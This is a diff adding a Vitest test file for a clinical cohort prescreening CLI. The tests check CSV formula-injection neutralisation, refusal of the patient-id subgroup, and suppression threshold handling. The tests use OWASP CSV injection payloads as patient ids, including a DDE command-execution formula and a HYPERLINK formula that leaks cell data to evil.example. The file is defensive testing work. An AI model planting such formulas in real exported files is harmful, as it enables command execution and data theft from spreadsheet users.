@@ -1,0 +1,142 @@
+import { tempDir } from "../support/temp";
+import { beforeAll, describe, expect, it } from "vitest";
+import { readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import Papa from "papaparse";
+import { main } from "../../src/cli/main.ts";
+import { csvCell } from "../../src/engine/csv-cell.ts";
+
+async function run(...argv: string[]) {
+  const out: string[] = [];
+  const err: string[] = [];
+  const code = await main(
+    argv,
+    (s) => out.push(s),
+    (s) => err.push(s),
+  );
+  return { code, out: out.join("\n"), err: err.join("\n") };
+}
+
+// OWASP's CSV injection examples, as patient ids
+const PAYLOADS = [
+  "=cmd|' /C calc'!A0",
+  "+1+1",
+  "-2+3",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+];
+
+const dir = tempDir("prescreen-report-");
+const extract = join(dir, "extract40.csv");
+
+beforeAll(async () => {
+  const synth = join(dir, "synth.csv");
+  expect((await run("synth", "--rows", "40", "--seed", "5", "--out", synth)).code).toBe(0);
+  const parsed = Papa.parse<Record<string, string>>(readFileSync(synth, "utf8"), {
+    header: true,
+    skipEmptyLines: true,
+  });
+  parsed.data.forEach((row, i) => {
+    if (i < PAYLOADS.length) row["PatientID"] = PAYLOADS[i]!;
+  });
+  writeFileSync(extract, Papa.unparse(parsed.data));
+});
+
+describe("CSV cells are never formulas", () => {
+  it.each(PAYLOADS)("neutralises %j", (p) => {
+    const cell = csvCell(p);
+    const back = Papa.parse<string[]>(cell, { delimiter: "," }).data[0]![0]!;
+    expect(back.startsWith("'")).toBe(true);
+    expect(back.slice(1)).toBe(p);
+  });
+  it("keeps plain numbers and ordinary text", () => {
+    expect(csvCell("-5")).toBe("-5");
+    expect(csvCell("+1.5e3")).toBe("+1.5e3");
+    expect(csvCell("LN100001")).toBe("LN100001");
+    expect(csvCell("a,b")).toBe('"a,b"');
+  });
+  it("prescreen screen writes injected ids as text", async () => {
+    const out = join(dir, "results.csv");
+    const r = await run("screen", "--data", extract, "--protocol", "ln-cd19-cd70", "--out", out);
+    expect(r.code, r.err).toBe(0);
+    const rows = Papa.parse<Record<string, string>>(readFileSync(out, "utf8"), {
+      header: true,
+      skipEmptyLines: true,
+    }).data;
+    const first = Object.keys(rows[0]!)[0]!;
+    const ids = rows.map((row) => row[first]!);
+    // every id a spreadsheet would read as a formula is written as text
+    for (const id of ids) expect(id, id).not.toMatch(/^[=+\-@\t\r]/);
+    expect(ids.filter((id) => id.startsWith("'")).length).toBeGreaterThanOrEqual(5);
+  });
+});
+
+describe("prescreen report", () => {
+  it("writes the audited report of a 40-row extract; the id column is never a subgroup", async () => {
+    const out = join(dir, "report.json");
+    const r = await run(
+      "report",
+      "--data",
+      extract,
+      "--protocol",
+      "ln-cd19-cd70",
+      "--subgroup",
+      "patient_id",
+      "--subgroup",
+      "sex",
+      "--out",
+      out,
+    );
+    expect(r.code, r.err).toBe(0);
+    const text = readFileSync(out, "utf8");
+    const doc = JSON.parse(text);
+    expect(doc.schema).toBe("cohort-prescreener/aggregate-report");
+    expect(doc.suppression).toMatchObject({ enabled: true, threshold: 11, display: "*" });
+    expect(doc.suppression.audit.solver).toMatch(/^HiGHS /);
+    expect(doc.source.name).toBeUndefined();
+    expect(doc.subgroupsRefused.map((g: { name: string }) => g.name)).toContain("patient_id");
+    for (const p of PAYLOADS) expect(text).not.toContain(JSON.stringify(p));
+    expect(text).not.toContain("LN1");
+  });
+
+  it.each([
+    ["3", /below the floor of 5/],
+    ["1.4", /whole number/],
+    ["-5", /below the floor/],
+    ["ten", /whole number/],
+  ])("refuses --threshold %s with a clear message", async (t, msg) => {
+    const r = await run(
+      "report",
+      "--data",
+      extract,
+      "--protocol",
+      "ln-cd19-cd70",
+      "--threshold",
+      t,
+    );
+    expect(r.code).toBe(2);
+    expect(r.err).toMatch(msg);
+  });
+
+  it("--suppression off writes the site's copy, marked not for sharing", async () => {
+    const out = join(dir, "site.json");
+    const r = await run(
+      "report",
+      "--data",
+      extract,
+      "--protocol",
+      "ln-cd19-cd70",
+      "--suppression",
+      "off",
+      "--out",
+      out,
+    );
+    expect(r.code, r.err).toBe(0);
+    const doc = JSON.parse(readFileSync(out, "utf8"));
+    expect(doc.notForSharing).toMatch(/must not be shared/);
+    expect(doc.suppression.enabled).toBe(false);
+    expect(doc.headline.total).toBe(40);
+  });
+});
